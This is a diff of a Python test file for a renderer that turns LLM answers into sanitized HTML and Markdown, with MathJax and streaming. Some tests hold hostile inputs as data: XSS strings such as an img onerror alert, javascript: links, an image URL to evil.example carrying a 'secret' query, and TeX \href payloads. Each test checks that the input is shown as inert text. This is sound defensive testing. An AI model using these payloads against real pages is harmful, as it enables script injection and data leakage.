@@ -5,7 +5,6 @@ from __future__ import annotations
 import re
 import time
 from html.parser import HTMLParser
-from unittest.mock import patch
 
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -38,17 +37,20 @@ def test_markdown_specials_inside_math_survive() -> None:
     assert "<em>" not in html
 
 
-def test_dollars_in_code_are_not_math_and_code_is_saved_as_written() -> None:
+def test_dollars_in_code_are_not_math_and_code_is_saved_as_entities() -> None:
     text = "Use `$x$` or\n\n```bash\necho $HOME $PATH <b>\n```"
     html = to_html(text)
-    assert "<code>$x$</code>" in html and "echo $HOME $PATH &lt;b&gt;" in html
-    assert "\\(" not in html
-    assert to_markdown(text) == text
+    assert "<code>$x$</code>" in html and "echo $HOME $PATH <b>" in visible(html)
+    assert "\\(" not in html and '<span style="color:' in html  # highlighted, with inline styles
+    assert to_markdown(text) == (
+        "Use <code>&#36;x&#36;</code> or\n\n<pre><code>echo &#36;HOME &#36;PATH &#60;b&#62;</code></pre>"
+    )
 
 
 def test_currency_is_not_math_and_is_escaped_in_the_final_markdown() -> None:
     text = "It costs $5 and $10, or $5-$10 in total."
-    assert to_markdown(text) == r"It costs \\$5 and \\$10, or \\$5-\\$10 in total."
+    dollar = "&#36;<span></span>"
+    assert to_markdown(text) == f"It costs {dollar}5 and {dollar}10, or {dollar}5-{dollar}10 in total."
     assert "\\(" not in to_html(text)
 
 
@@ -56,7 +58,7 @@ def test_currency_next_to_a_formula_typesets_only_the_formula() -> None:
     text = "The ticket costs $5, and the area is $\\pi r^2$."
     html = to_html(text)
     assert re.findall(r"\\\((.*?)\\\)", html) == ["\\pi r^2"]
-    assert to_markdown(text) == r"The ticket costs \\$5, and the area is $\pi r^2$."
+    assert to_markdown(text) == r"The ticket costs &#36;<span></span>5, and the area is $\pi r^2$."
 
 
 def test_llm_display_layout_with_text_before_and_after() -> None:
@@ -81,8 +83,8 @@ def test_lists_nested_lists_tables_and_code_in_lists() -> None:
     )
     html = to_html(text)
     assert re.search(r"<ol>\s*<li>", html) and "<ul>" in html
-    assert "<table>" in html and "<td>\\(y\\)</td>" in html
-    assert "print('hi')" in html and "<pre><code" in html
+    assert "<table>" in html and f'<td><span class="{render.PROCESS_MATH}">\\(y\\)</span></td>' in html
+    assert "print('hi')" in visible(html) and "<pre><code" in html
 
 
 XSS = [
@@ -114,6 +116,23 @@ HOSTILE = {
 }
 
 
+class Text(HTMLParser):
+    """The text a browser would show for some HTML."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.parts: list[str] = []
+        self.feed(html)
+        self.close()
+
+    def handle_data(self, data: str) -> None:
+        self.parts.append(data)
+
+
+def visible(html: str) -> str:
+    return "".join(Text(html).parts)
+
+
 class Tags(HTMLParser):
     """The tags and attributes a browser would build from some HTML."""
 
@@ -139,12 +158,16 @@ def assert_inert_html(html: str) -> None:
 REREAD = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
 
 
+OUR_HTML = re.compile(r"<pre><code>[^<]*</code></pre>\s*|</?span>|</?code>")
+
+
 def assert_inert_markdown(markdown: str) -> None:
-    """Read back by a CommonMark parser WITH raw HTML on: no HTML, and links only to http, https or mailto."""
+    """Read back by a CommonMark parser WITH raw HTML on: no HTML but ours (code, empty spans), links only to http,
+    https or mailto."""
     for token in REREAD.parse(markdown):
-        assert token.type not in ("html_block", "html_inline"), markdown
+        assert token.type != "html_block" or OUR_HTML.fullmatch(token.content), markdown
         for child in token.children or []:
-            assert child.type != "html_inline", markdown
+            assert child.type != "html_inline" or OUR_HTML.fullmatch(child.content), markdown
             if child.type in ("link_open", "image"):
                 url = str(child.attrs.get("href", child.attrs.get("src", "")))
                 assert url.lower().startswith(("http:", "https:", "mailto:")), markdown
@@ -172,26 +195,26 @@ def test_hostile_answers_are_inert_live_and_saved(payload: str) -> None:
 def test_raw_html_shows_as_text() -> None:
     text = f"Look: {IMG}"
     assert "&lt;img src=x onerror=" in to_html(text)
-    assert "\\<img src=x onerror=" in to_markdown(text)
+    assert "&lt;img src=x onerror=" in to_markdown(text)
 
 
 def test_relative_and_unsafe_links_become_text() -> None:
     html = to_html("[a](/etc/passwd) [b](javascript:x) [c](https://ok.example) <mailto:me@x.example>")
     assert [attrs for tag, attrs in Tags(html).found if tag == "a"] == [
-        [("href", "https://ok.example"), ("rel", "noopener noreferrer")],
-        [("href", "mailto:me@x.example"), ("rel", "noopener noreferrer")],
+        [("href", "https://ok.example"), ("rel", "noopener noreferrer nofollow")],
+        [("href", "mailto:me@x.example"), ("rel", "noopener noreferrer nofollow")],
     ]
 
 
 def test_images_from_the_model_become_links_so_nothing_loads_unasked() -> None:
     text = "See ![chart](https://evil.example/?q=secret) and `![kept](in code)`"
     assert "<img" not in to_html(text) and '<a href="https://evil.example/?q=secret"' in to_html(text)
-    assert to_markdown(text) == "See [chart](https://evil.example/?q=secret) and `![kept](in code)`"
+    assert to_markdown(text) == "See [chart](https://evil.example/?q=secret) and <code>&#33;&#91;kept&#93;&#40;in code&#41;</code>"
 
 
 def test_code_text_survives_sanitizing() -> None:
     html = to_html("```html\n<script>alert('x') && a < b</script>\n```")
-    assert "&lt;script&gt;alert('x') &amp;&amp; a &lt; b&lt;/script&gt;" in html
+    assert "<script>alert('x') && a < b</script>" in visible(html) and "<script" not in html
 
 
 PIECES = [
@@ -232,15 +255,6 @@ def test_any_20000_character_answer_renders_in_linear_time(unit: str) -> None:
 
 
 
-@settings(max_examples=200, deadline=None)
-@given(st.text(alphabet=" \t\nab1.$|~#>-+*_[]<`&!\\()", max_size=40))
-def test_saved_text_is_what_mdformat_itself_writes(text: str) -> None:
-    # The writer skips mdformat's text escaper when a text node needs nothing of it; that shortcut must not change a byte.
-    source = f"{text}\n\n| a | b |\n| --- | --- |\n| {text.replace(chr(10), ' ')} | x |"
-    saved = to_markdown(source)
-    with patch.object(render, "_NOTHING_TO_ESCAPE", re.compile("(?!)")):
-        assert saved == to_markdown(source)
-
 LONG = (
     "# Title\n\nIntro with $a^2+b^2=c^2$ and **bold** text.\n\n"
     "- item one\n- item two with \\(x_1\\)\n  1. nested\n\n"
@@ -263,7 +277,7 @@ def test_every_prefix_streams_without_errors_or_unbalanced_fences() -> None:
     assert len(frozen) >= 4
     whole = "".join(frozen) + tail
     for piece in ("<h1>Title</h1>", "\\(a^2+b^2=c^2\\)", "<strong>bold</strong>", "\\[\n\\int_0^1", "<table>", "print(i)"):
-        assert piece in whole
+        assert piece in whole or piece in visible(whole)
 
 
 def test_unclosed_fence_and_display_math_show_as_code_until_they_close() -> None:
@@ -301,10 +315,11 @@ def test_finished_blocks_are_rendered_once() -> None:
     renderer = StreamRenderer()
     renderer.feed("First paragraph.\n\nSecond")
     block, tail = renderer.render()
-    assert block == "<p>First paragraph.</p>" and tail == "<p>Second</p>"
+    wrapped = '<div class="mathjax_ignore tex2jax_ignore">{}</div>'.format
+    assert block == wrapped("<p>First paragraph.</p>") and tail == wrapped("<p>Second</p>")
     renderer.feed(" grows.")
     block, tail = renderer.render()
-    assert block is None and tail == "<p>Second grows.</p>"
+    assert block is None and tail == wrapped("<p>Second grows.</p>")
 
 
 def test_ordered_lists_split_across_blocks_keep_their_numbers() -> None:
@@ -339,14 +354,14 @@ def test_escape_markdown_shows_any_string_literally(value: str) -> None:
     tokens = REREAD.parse(escaped)
     assert [t.type for t in tokens if t.level == 0 and t.nesting >= 0] == ["paragraph_open"] * (value.count("\n\n") + 1)
     inlines = [t.children or [] for t in tokens if t.type == "inline"]
-    shown = "\n".join("".join(c.content if c.type == "text" else "\n" for c in children) for children in inlines)
-    assert shown.replace("\\$", "$").split() == value.replace("\n\n", "\n").split()  # MathJax shows `\$` as `$`
+    shown = "\n".join("".join(c.content if c.type == "text" else "\n" * (c.type != "html_inline") for c in children) for children in inlines)
+    assert shown.split() == value.replace("\n\n", "\n").split()
 
 
 def test_markdown_table_cells_are_escaped() -> None:
     table = markdown_table(["name", "value"], [["a|b", "<img src=x onerror=alert(1)>"], ["$5", "line\nbreak"]])
     assert_inert_markdown(table)
-    cells = [t.children[0].content.replace("\\$", "$") for t in REREAD.parse(table) if t.type == "inline" and t.children]
+    cells = ["".join(c.content for c in t.children if c.type == "text") for t in REREAD.parse(table) if t.type == "inline" and t.children]
     assert cells == ["name", "value", "a|b", "<img src=x onerror=alert(1)>", "$5", "line break"]
 
 
@@ -399,3 +414,95 @@ def test_the_markdown_stream_writes_what_the_final_markdown_says() -> None:
         assert_inert_markdown(shown)
         assert "**" not in shown.splitlines()[-1] or shown.splitlines()[-1].count("**") % 2 == 0
     assert REREAD.render(stream.render()) == REREAD.render(to_markdown(LONG))
+
+
+NESTED = st.lists(
+    st.tuples(st.integers(0, 30), st.sampled_from(["- ", "> ", "+ ", "> - ", "* "]), st.text("abc xyz 123 $`*_\\", max_size=30)),
+    min_size=1, max_size=60,
+).map(lambda lines: "".join(" " * (2 * depth) + marker * (1 + depth * (marker == "> ")) + f"w{n} {words}\n" for n, (depth, marker, words) in enumerate(lines)))
+
+
+def _words(text: str) -> str:
+    """The runs of letters and digits, in order; joined, as markup such as `a*b*` shows two runs as one word."""
+    return "".join(re.findall(r"[A-Za-z0-9]+", text))
+
+
+def _markdown_words(markdown: str) -> list[str]:
+    """The words of saved Markdown once a reader parses it back: text, code and math, in order."""
+    shown = [
+        child.content for token in REREAD.parse(markdown) if token.type in ("inline", "html_block")
+        for child in (token.children or [token]) if child.type in ("text", "html_block", "code_inline", "html_inline")
+    ]
+    return _words(visible(" ".join(shown)))
+
+
+@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(NESTED)
+def test_every_word_survives_any_nesting_live_and_saved(text: str) -> None:
+    words = _words(text)
+    assert _words(visible(to_html(text))) == words
+    assert _markdown_words(to_markdown(text)) == words
+    renderer, shown = StreamRenderer(), []
+    for i in range(0, len(text), 50):
+        renderer.feed(text[i : i + 50])
+        block, _ = renderer.render()
+        shown += [block] if block else []
+    renderer.feed("\n\nend")
+    block, tail = renderer.render()
+    assert _words(visible("".join(shown) + (block or "") + tail)) == words + "end"
+
+
+def test_the_22k_character_answer_nested_ten_deep_keeps_every_word() -> None:
+    text = "".join("  " * (i % 12) + f"- item {i} with $x_{{{i}}}$ and more words\n" for i in range(600))
+    assert len(text) > 22_000
+    assert _words(visible(to_html(text))) == _words(text)
+    assert _markdown_words(to_markdown(text)) == _words(text)
+    assert "<pre><code>" in to_html(text)  # past five list levels, the rest of the item is indented text
+
+
+@pytest.mark.parametrize("text", ["a\rb", "a\r\nb\r\n", "\r", "- a\r  - b\r\r$$\rx\r$$\r", "x\x00y", "a\ud800b\udfffc", "`a\r`\r\n\r```\rcode\r```"])
+def test_bare_carriage_returns_nul_and_lone_surrogates_never_break_a_renderer(text: str) -> None:
+    for step in (1, 2, 3):
+        live, view = StreamRenderer(), MarkdownStream()
+        for i in range(0, len(text), step):
+            live.feed(text[i : i + step])
+            view.feed(text[i : i + step])
+            live.render()
+            view.render()
+    words = _words(text.replace("\x00", " ").replace("\ud800", " ").replace("\udfff", " "))
+    assert _words(visible(to_html(text))) == words and _markdown_words(to_markdown(text)) == words
+    for markdown in (escape_markdown(text), to_markdown(text), view.render()):
+        markdown.encode("utf-8")  # no lone surrogate left to fail the notebook's JSON
+
+
+@pytest.mark.parametrize("command", ["href", "url", "class", "cssId", "style", "data", "unicode", "require", "mmlToken", "html", "def", "newcommand", "renewcommand", "let", "bbox"])
+def test_tex_commands_that_make_links_or_markup_show_as_text(command: str) -> None:
+    text = f"$\\{command}{{javascript:alert(1)}}{{x}}$ and \\\\{command} stays"
+    for out in (to_html(text), to_markdown(text)):
+        assert f"\\{command}{{" not in out and f"\\backslash\\mathrm{{{command}}}" in out
+
+
+def test_text_never_reaches_mathjax_as_tex() -> None:
+    html = to_html("plain \\begin {align} x \\end {align} and \\(y\\) costs $5")
+    assert html.startswith(f'<div class="{render.IGNORE_MATH}">')
+    assert [m.group(1) for m in re.finditer(rf'<span class="{render.PROCESS_MATH}">(.*?)</span>', html)] == ["\\(y\\)"]
+
+
+def test_finish_renders_the_whole_rest_even_when_a_large_tail_was_held_back() -> None:
+    # A 3,000-character table tail is redrawn only when it grows by a quarter; the last rows must still be in the answer,
+    # and a half-typed marker at the very end is part of the answer once it has ended.
+    text = "| a | b |\n| --- | --- |\n" + "".join(f"| row {i} | $x_{{{i}}}$ |\n" for i in range(150)) + "| last | **bold"
+    live, view = StreamRenderer(), MarkdownStream()
+    blocks: list[str] = []
+    for i in range(0, len(text), 5):
+        live.feed(text[i : i + 5])
+        view.feed(text[i : i + 5])
+        block, tail = live.render()
+        blocks += [block] if block else []
+        view.render()
+    assert "last" not in visible(tail)  # held back, then hidden while typed
+    block, tail = live.finish()
+    final = visible("".join(blocks) + (block or "") + tail)
+    assert "row 149" in final and "last" in final and "**bold" in final
+    saved = view.finish()
+    assert "row 149" in saved and "bold" in saved and saved == view.finish()
